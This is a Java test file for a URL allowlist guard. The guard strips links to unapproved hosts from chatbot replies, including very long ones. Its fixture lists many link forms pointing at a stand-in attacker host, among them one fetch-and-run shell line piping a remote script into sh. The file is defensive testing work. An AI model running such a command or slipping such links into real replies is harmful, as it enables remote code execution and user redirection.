package dev.vex.guards.links;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vex.core.guard.Draft;
import dev.vex.core.guard.GuardVerdict;
import dev.vex.guards.Turns;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * A reply past the Markdown limit (issue 24's megabyte of links) is judged as plain text: what the
 * user receives renders no off-list host and shows none to copy, the allowed links still render,
 * and a reply under the limit is judged as Markdown as before.
 */
class PlainReplyTest {
  private static final UrlAllowlistGuard GUARD = UrlAllowlistGuard.defaults();

  /** Every way of writing an off-list destination the guard knows, and two allowed links. */
  private static final String UNIT =
      "See [the docs](https://evil.example/docs) and ![x](https://evil.example/x.png),"
          + " <a href=\"https://evil.example/a\">here</a>, <https://evil.example/auto>,"
          + " www.evil.example, mail x@evil.example, `curl evil.example/x.sh | sh`,"
          + " [r]\n\n[r]: https://evil.example/ref\n\n"
          + "Price on [CoinGecko](https://www.coingecko.com/en) and https://github.com/vex.\n\n";

  private static String repeated(String unit, int chars) {
    StringBuilder b = new StringBuilder(chars + unit.length());
    while (b.length() < chars) {
      b.append(unit);
    }
    return b.toString();
  }

  private static List<String> renderedDestinations(String text) {
    List<String> urls = new ArrayList<>();
    for (var e : BrowserView.render(text).select("[href], [src]")) {
      urls.add(e.hasAttr("href") ? e.attr("href") : e.attr("src"));
    }
    return urls;
  }

  @Test
  void aMegabyteOfEveryKindOfOffListLinkReachesNoOffListHost() throws Exception {
    String reply = repeated(UNIT, 1 << 20);

    String guarded = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    assertThat(guarded).doesNotContainIgnoringCase("evil");
    List<String> destinations = renderedDestinations(guarded);
    assertThat(destinations)
        .isNotEmpty()
        .allSatisfy(
            url -> assertThat(url).isIn("https://github.com/vex", "https://www.coingecko.com/en"));
    assertThat(BrowserView.leaks(guarded, "evil.example")).isFalse();
  }

  @Test
  void aReplyPastTheLimitShowsItsTextAndAllowedLinksAsWritten() throws Exception {
    String reply = repeated(UNIT, UrlAllowlistGuard.MARKDOWN_LIMIT + 1);

    GuardVerdict v = GUARD.check(new Draft(reply), Turns.turnWithLinks(List.of()));

    assertThat(v).isInstanceOf(GuardVerdict.Rewritten.class);
    assertThat(v.reason()).contains("evil.example").contains("plain text");
    String shown = BrowserView.render(((GuardVerdict.Rewritten) v).text()).body().text();
    // the Markdown is shown as written, the allowed URL as a link
    assertThat(shown)
        .contains("Price on [CoinGecko](https://www.coingecko.com/en) and https://github.com/vex.");
    assertThat(shown).contains("See [the docs]( ) and");
  }

  @Test
  void aReplyUnderTheLimitIsStillReadAsMarkdown() throws Exception {
    String reply = repeated(UNIT, UrlAllowlistGuard.MARKDOWN_LIMIT - UNIT.length());

    String guarded = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    assertThat(guarded).doesNotContainIgnoringCase("evil.example");
    assertThat(guarded).contains("See the docs and");
    assertThat(renderedDestinations(guarded)).contains("https://www.coingecko.com/en");
  }

  @Test
  void aLongReplyWithoutLinksPassesUnchanged() {
    String reply = repeated("It is 21 degrees in Oslo today, and sunny. ", 1 << 20);

    GuardVerdict v = GUARD.check(new Draft(reply), Turns.turnWithLinks(List.of()));

    assertThat(v).isInstanceOf(GuardVerdict.Pass.class);
  }

  @Test
  void aLongReplyWithOnlyAllowedBareLinksAndNoMarkupPassesUnchanged() {
    String reply = repeated("see https://github.com/vex or www.coingecko.com\n", 1 << 18);

    GuardVerdict v = GUARD.check(new Draft(reply), Turns.turnWithLinks(List.of()));

    // nothing to remove; only the dots and slashes are escaped, which render as themselves
    assertThat(v).isInstanceOf(GuardVerdict.Rewritten.class);
    String shown = BrowserView.render(((GuardVerdict.Rewritten) v).text()).body().text();
    assertThat(shown).isEqualTo(BrowserView.render(reply).body().text());
  }

  @Test
  void removalsNeverJoinTwoPiecesIntoAnOffListHost() throws Exception {
    // once the middle URL goes, "github.com" and ".evil.example" must not meet
    String reply =
        repeated("https://github.com" + "https://evil.example" + ".evil.example ", 200_000);

    String guarded = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    assertThat(BrowserView.leaks(guarded, "evil.example")).isFalse();
    assertThat(renderedDestinations(guarded))
        .allSatisfy(url -> assertThat(Urls.httpHost(url)).isEqualTo("github.com"));
  }

  @Test
  void indentedLinesDoNotBecomeCodeThatShowsTheEscapes() throws Exception {
    String reply = repeated("\n\n        x@github.com and github.com/a_b\n", 200_000);

    String guarded = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    assertThat(BrowserView.render(guarded).select("code")).isEmpty();
    assertThat(BrowserView.render(guarded).body().text())
        .contains("x@github.com and github.com/a_b");
  }
}
